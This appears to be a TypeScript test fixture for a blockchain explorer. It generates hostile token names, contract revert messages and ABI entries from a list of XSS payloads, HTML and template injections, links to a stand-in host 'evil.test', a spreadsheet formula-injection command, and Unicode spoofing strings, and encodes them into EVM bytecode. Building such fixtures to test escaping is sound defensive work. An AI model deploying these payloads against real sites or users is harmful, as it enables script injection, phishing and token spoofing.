import { word } from "./explorer-chain.js";

const TRANSFER = "ddf252ad1be2c89b69c2b068fc378daa952ba7f163c4a11628f55a4df523b3ef";
/** As long as the code of a contract may be. */
const LONG = 20_000;

/** Markup, scripts, addresses and formulas. */
const MARKUP = [
  "<script>window.pwned=1</script>",
  "<img src=x onerror=window.pwned=1>",
  "<svg onload=window.pwned=1>",
  "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
  "<a href=javascript:window.pwned=1>click</a>",
  "<style>*{display:none}</style>",
  "<base href=//evil.test/>",
  "<link rel=stylesheet href=//evil.test/x.css>",
  "<meta http-equiv=refresh content='0;url=//evil.test'>",
  "<form action=//evil.test><button>Log in</button></form>",
  "<object data=//evil.test></object>",
  "<embed src=//evil.test>",
  "<video src=x onerror=window.pwned=1>",
  "<details open ontoggle=window.pwned=1>",
  "<input autofocus onfocus=window.pwned=1>",
  "<math><mtext><script>window.pwned=1</script></mtext></math>",
  "</title><script>window.pwned=1</script>",
  "</script><script>window.pwned=1</script>",
  "]]><script>window.pwned=1</script>",
  "--><script>window.pwned=1</script>",
  '"><script>window.pwned=1</script>',
  "'><script>window.pwned=1</script>",
  '" onmouseover="window.pwned=1',
  "' onfocus='window.pwned=1' autofocus='",
  "javascript:window.pwned=1",
  "data:text/html,<script>window.pwned=1</script>",
  "//evil.test/x.png",
  "https://evil.test/",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack.
  "${window.pwned=1}",
  "{{constructor.constructor('window.pwned=1')()}}",
  "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
  "&lt;script&gt;window.pwned=1&lt;/script&gt;",
  "&#60;script&#62;window.pwned=1&#60;/script&#62;",
  "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
  "=cmd|' /C calc'!A0",
  "+1+1",
  "@SUM(1)",
  "-2+3",
  "#/login",
  "../../login",
] as const;

/** Texts that hide, turn or pile up characters. */
const LETTERS = [
  "USDC\u202e\u202dCDSU",
  "\u202eevil",
  "\u2066a\u2069\u2067b\u2069",
  "\u200b\u200b\u200b",
  "US\u200bDC",
  "\ufeffDAI",
  "\u061cabc",
  "a\u0300".repeat(50),
  `Z${"\u0341".repeat(300)}`,
  "\u0000\u0001\u0002",
  "\u001b[31mred\u001b[0m",
  "line\r\nbreak",
  "\u2028\u2029",
  "\u{e0041}\u{e0042}",
  "ＵＳＤＣ",
  "UЅDС",
  "\ufdfd".repeat(20),
  "𒐫".repeat(20),
  "سعر العملة",
  "\u3164\u115f\u1160",
] as const;

const NESTINGS = ["<b>", "<table><tr><td>", "<svg><a>", "<select><option>", "<template>"] as const;

/** Two hundred texts that strangers can store on a chain. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...MARKUP,
  ...LETTERS,
  ...MARKUP.map((text) => `\u202e${text}`),
  ...MARKUP.map((text) => `Token ${text}${text}`),
  ...LETTERS.map((text) => `<i title="${text}">${text}</i>`),
  ...NESTINGS.map((tag) => tag.repeat(500)),
  ...MARKUP.slice(0, 30).map((text, index) => text.repeat(3 + index)),
  "x".repeat(LONG),
  "<".repeat(LONG),
  "\u202e".repeat(LONG / 3),
  "😀".repeat(LONG / 4),
  "",
];

/** Creates a token that has a text as its name and symbol; it reports a transfer to an owner. */
export function tokenCode(text: string, owner: string): string {
  return creation(`${logTransfer(owner)}`, `${copyAndReturn("f3")}${encodeText(text)}`);
}

/** Creates a contract that reverts every call with a text. */
export function revertingCode(text: string): string {
  return creation("", `${copyAndReturn("fd")}08c379a0${encodeText(text)}`);
}

/** The output of a compiler with a contract for each text. */
export function hostileAbi(): unknown {
  const contracts = HOSTILE_TEXTS.map((text, index) => {
    const inputs = [{ name: text, type: "uint256" }];
    const name = `f${index}`;
    const abi = [
      { type: "function", name, inputs, stateMutability: "view" },
      { type: "function", name: text, inputs },
      { type: "event", name: `E${index}`, inputs: [{ name: text, type: text }] },
    ];
    return [`${index} ${text}`, { abi }];
  });
  return { contracts: { "a.sol": Object.fromEntries(contracts) } };
}

/** The size of each of the two copying parts below. */
const CODE_BYTES = 11;

/** CODECOPY of everything behind it to memory, and RETURN or REVERT of it. */
function copyAndReturn(end: "f3" | "fd"): string {
  const at = CODE_BYTES.toString(16).padStart(2, "0");
  // PUSH1 at, CODESIZE, SUB, DUP1, PUSH1 at, PUSH0, CODECOPY, PUSH0, RETURN.
  return `60${at}38038060${at}5f395f${end}`;
}

function logTransfer(owner: string): string {
  // The amount 7 in memory; the topics are the recipient, zero and the event.
  return `60075f5273${owner.slice(2)}5f7f${TRANSFER}60205fa3`;
}

/** Creation code that runs a prefix and returns the code behind it. */
function creation(prefix: string, code: string): string {
  const size = (code.length / 2).toString(16).padStart(4, "0");
  const start = prefix.length / 2 + CODE_BYTES;
  const at = start.toString(16).padStart(4, "0");
  // PUSH2 size, DUP1, PUSH2 at, PUSH0, CODECOPY, PUSH0, RETURN.
  return `0x${prefix}61${size}8061${at}5f395ff3${code}`;
}

/** A string as a contract returns it. */
function encodeText(text: string): string {
  const bytes = Buffer.from(text);
  const padded = Buffer.alloc(Math.ceil(bytes.length / 32) * 32);
  bytes.copy(padded);
  return `${word(32)}${word(bytes.length)}${padded.toString("hex")}`;
}
